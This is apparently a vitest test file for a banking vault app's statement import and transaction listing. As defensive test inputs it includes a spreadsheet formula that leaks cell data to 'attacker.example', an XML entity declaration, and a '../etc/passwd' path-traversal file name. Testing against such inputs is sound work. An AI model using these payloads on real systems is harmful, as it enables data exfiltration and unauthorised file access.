import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { auditEntries, bankingRowCounts, EUR_ACCOUNT, GBP_ACCOUNT, makeDemoVault, type DemoVault } from '../../../test/fixtures/demo/demoVault.js';
import { fixturesDir } from '../../../test/fixtures/domain/vectors.js';
import { tempDir } from '../../../test/support/tempDir.js';
import { dispatchUnknown } from '../dispatch/dispatch.js';
import { fileInput } from '../../../test/support/fileInput.js';
import { openSession } from '../dispatch/openSession.js';

// test/fixtures/domain: a camt.053.001.08 statement of the demo EUR account with five booked entries
// (+12,500.00, -1,234.56, -7.50, +980.00, -5,000.00), and a CSV repeating four of them plus one new one.
const CAMT = join(fixturesDir, 'camt053-v08-multi-entry.xml');
const CSV = join(fixturesDir, 'statement.csv');

let alice: DemoVault;
beforeAll(async () => {
  alice = await makeDemoVault('alice');
});
afterAll(() => alice?.close());

const balance = (iban: string) => (alice.vault.db.prepare('SELECT balance_minor AS b FROM accounts WHERE iban = ?').get(iban) as { b: number }).b;
const run = async (name: string, input: unknown) => dispatchUnknown(await openSession(alice.vault), name, input);

describe('when a camt.053 statement is imported twice', () => {
  it('books its five entries once, moves the balance by their sum, and audits the import', async () => {
    const before = balance(EUR_ACCOUNT);
    expect(await run('statements.import', { file: fileInput(CAMT) })).toMatchObject({ ok: true, value: { format: 'camt.053', imported: 5, duplicates: 0 } });
    expect(balance(EUR_ACCOUNT) - before).toBe(12_500_00 - 1_234_56 - 7_50 + 980_00 - 5_000_00);
    expect(auditEntries(alice.vault).at(-1)).toMatchObject({ action: 'statements.import', outcome: 'allowed', details: { format: 'camt.053', entries: 5 } });
    const again = await run('statements.import', { file: fileInput(CAMT) });
    expect(again).toMatchObject({ ok: true, value: { imported: 0, duplicates: 5 } });
    expect(balance(EUR_ACCOUNT) - before).toBe(7_237_94);
  });

  it('books only the new line of an overlapping CSV and counts its formula-looking cells', async () => {
    const result = await run('statements.import', { file: fileInput(CSV), account: EUR_ACCOUNT });
    expect(result).toMatchObject({ ok: true, value: { format: 'csv', imported: 1, duplicates: 4, formulaCells: 2 } });
    const row = alice.vault.db.prepare("SELECT amount_minor AS amount, counterparty_name AS name FROM statement_transactions WHERE entry_ref = '2025030300118006'").get();
    // Kept verbatim as data: neutralising is for export, never for storage.
    expect(row).toEqual({ amount: -1999, name: '=HYPERLINK("http://attacker.example/?x="&A1)' });
  });
});

describe('when a statement file is bad', () => {
  const file = (name: string, text: string | Buffer) => ({ name, bytes: typeof text === 'string' ? new TextEncoder().encode(text) : text });
  const header = 'entry_ref,booking_date,value_date,amount,currency,counterparty_name,counterparty_iban,remittance_info\n';

  for (const [label, path, input, code, pattern] of [
    ['a CSV row with a malformed amount', () => file('bad.csv', `${header}A1,2025-03-01,,10.00,EUR,,,ok\nA2,2025-03-01,,12.345,EUR,,,bad\n`), {}, 'DOMAIN_BAD_CSV', /line 3/],
    ['a camt.053 declaring entities', () => file('evil.xml', '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x "y">]><Document/>'), {}, 'DOMAIN_UNSAFE_XML', /./],
    ['a CSV without an account to book it on', () => file('s.csv', `${header}A1,2025-03-01,,10.00,EUR,,,ok\n`), { noAccount: true }, 'APP_BAD_INPUT', /^account: /],
    ['a CSV line in another currency than the account', () => file('gbp.csv', `${header}A1,2025-03-01,,10.00,EUR,,,ok\nA2,2025-03-01,,10.00,GBP,,,x\n`), {}, 'APP_BAD_FILE', /entry 2 \(A2\)/],
    ['a file that is not UTF-8', () => file('latin1.csv', Buffer.from(`${header}A1,2025-03-01,,10.00,EUR,M\u00fcller,,ok\n`, 'latin1')), {}, 'APP_BAD_FILE', /UTF-8/],
    ['a file name with a folder in it', () => file('../etc/passwd', `${header}A1,2025-03-01,,10.00,EUR,,,ok\n`), {}, 'APP_BAD_INPUT', /^file\.name: /],
  ] as const) {
    it(`refuses ${label} with ${code}, naming the fault, and imports nothing`, async () => {
      const target = path();
      const rows = bankingRowCounts(alice.vault);
      const before = balance(EUR_ACCOUNT);
      const result = await run('statements.import', { file: target, ...('noAccount' in input ? {} : { account: EUR_ACCOUNT }) });
      expect(result).toMatchObject({ ok: false, error: { code } });
      if (!result.ok) expect(result.error.message).toMatch(pattern);
      expect(bankingRowCounts(alice.vault)).toEqual(rows);
      expect(balance(EUR_ACCOUNT)).toBe(before);
      expect(auditEntries(alice.vault).at(-1)).toMatchObject({ action: 'statements.import', outcome: 'failed', reason: code });
    });
  }

  it('refuses a camt.053 for one account imported as another\'s', async () => {
    expect(await run('statements.import', { file: fileInput(CAMT), account: GBP_ACCOUNT })).toMatchObject({ ok: false, error: { code: 'APP_BAD_INPUT' } });
  });
});

describe('when bookings are listed', () => {
  beforeAll(async () => {
    const path = join(tempDir('coffer-list-'), 'known.csv');
    writeFileSync(
      path,
      'entry_ref,booking_date,value_date,amount,currency,counterparty_name,counterparty_iban,remittance_info\n' +
        'ZX-1,2020-01-10,,250.00,GBP,Zebra Exports Ltd,,Zebra order 1\n' +
        'ZX-2,2020-01-20,,-75.25,GBP,Zebra Exports Ltd,,Zebra order 2\n' +
        'ZX-3,2020-02-05,,-1000.00,GBP,Zebra Exports Ltd,,Zebra 100% refund_x\n',
    );
    const imported = await run('statements.import', { file: fileInput(path), account: GBP_ACCOUNT });
    expect(imported).toMatchObject({ ok: true, value: { imported: 3 } });
  });

  const refs = async (filter: object) => {
    const result = await run('transactions.list', { account: GBP_ACCOUNT, text: 'zebra', ...filter });
    if (!result.ok) throw new Error(result.error.message);
    return (result.value as { transactions: { entryRef: string }[] }).transactions.map((t) => t.entryRef);
  };

  it('finds by text, newest first', async () => {
    expect(await refs({})).toEqual(['ZX-3', 'ZX-2', 'ZX-1']);
  });
  it('filters by booking dates (inclusive)', async () => {
    expect(await refs({ from: '2020-01-20', to: '2020-02-05' })).toEqual(['ZX-3', 'ZX-2']);
  });
  it('filters by size in either direction, read in the account\'s currency', async () => {
    expect(await refs({ minAmount: '75.25', maxAmount: '250' })).toEqual(['ZX-2', 'ZX-1']);
  });
  it('filters by direction', async () => {
    expect(await refs({ direction: 'credit' })).toEqual(['ZX-1']);
  });
  it('treats % and _ in the text as plain characters', async () => {
    expect(await refs({ text: '100% refund_x' })).toEqual(['ZX-3']);
    expect(await refs({ text: 'r_f' })).toEqual([]);
  });
  it('pages with limit and offset and reports the total', async () => {
    const result = await run('transactions.list', { account: GBP_ACCOUNT, text: 'zebra', limit: 1, offset: 1 });
    expect(result).toMatchObject({ ok: true, value: { total: 3, transactions: [{ entryRef: 'ZX-2', amount: '-75.25', amountMinor: -7525 }] } });
  });
  it('refuses an amount bound without a currency to read it in', async () => {
    expect(await run('transactions.list', { minAmount: '10' })).toMatchObject({ ok: false, error: { code: 'APP_BAD_INPUT', message: expect.stringMatching(/^minAmount: /) } });
  });
  it('refuses a date range that ends before it starts', async () => {
    expect(await run('transactions.list', { from: '2020-02-01', to: '2020-01-01' })).toMatchObject({ ok: false, error: { code: 'APP_BAD_INPUT', message: expect.stringMatching(/^to: /) } });
  });
});
